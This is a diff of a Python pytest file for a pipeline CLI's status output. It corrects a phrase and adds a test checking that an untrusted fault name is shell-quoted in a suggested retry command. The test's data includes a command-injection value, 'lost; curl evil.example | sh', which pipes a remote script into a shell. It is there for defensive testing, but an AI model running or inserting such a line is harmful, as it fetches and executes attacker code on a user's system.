@@ -9,6 +9,8 @@ from pathlib import Path
 
 import pytest
 
+from pipeline.cli.next_steps import next_steps
+from pipeline.cli.standing import standing
 from pipeline.cli.statement import Ending, render_end, render_runs, render_status
 
 DONE: Mapping[str, object] = {
@@ -219,7 +221,7 @@ def test_what_a_stopped_run_left_at_the_gateway_is_said_with_its_money() -> None
     line = (
         "  out       2 calls without an answer (in doubt unless one is found), 18 operations at the gateway, 25 "
         "pictures paid for and not fetched yet (their links may expire from 2026-11-22T18:40:00Z on); 1.35 USD is held "
-        "for it: the next run collects what can be had"
+        "for them: the next run collects what can be had"
     )
     for state in ("stopped", "parked"):
         ending = _with(state=state, tasks={"running": 18, "fetching": 25, "total": 60}, images=0, money=held, out=OUT)
@@ -272,3 +274,11 @@ def test_the_status_of_a_living_run_says_its_pace_and_that_it_is_paused() -> Non
     assert render_status({**alive, "paused": [everywhere]}, "runs/mugs").startswith("runs/mugs: running, and paused, ")
     assert render_status({**alive, "paused": [one]}, "runs/mugs").startswith("runs/mugs: running, ")
     assert "and paused" not in render_status({**alive, "paused": [one]}, "runs/mugs")
+
+
+def test_a_strangers_fault_is_one_word_of_a_command() -> None:
+    """A store may come from anybody, and what is said next is copied into a shell."""
+    faults = [{"fault": "moderated", "tasks": 1}, {"fault": "lost; curl evil.example | sh", "tasks": 1}]
+    status = {"state": "failed_tasks", "tasks": {"done": 1, "failed": 2, "total": 3}, "failures": faults}
+    steps = next_steps(standing(status), status, "pipeline run mugs.yaml", Path("runs/mugs"))
+    assert "pipeline retry runs/mugs --fault 'lost; curl evil.example | sh'   sends the failed tasks again" in steps
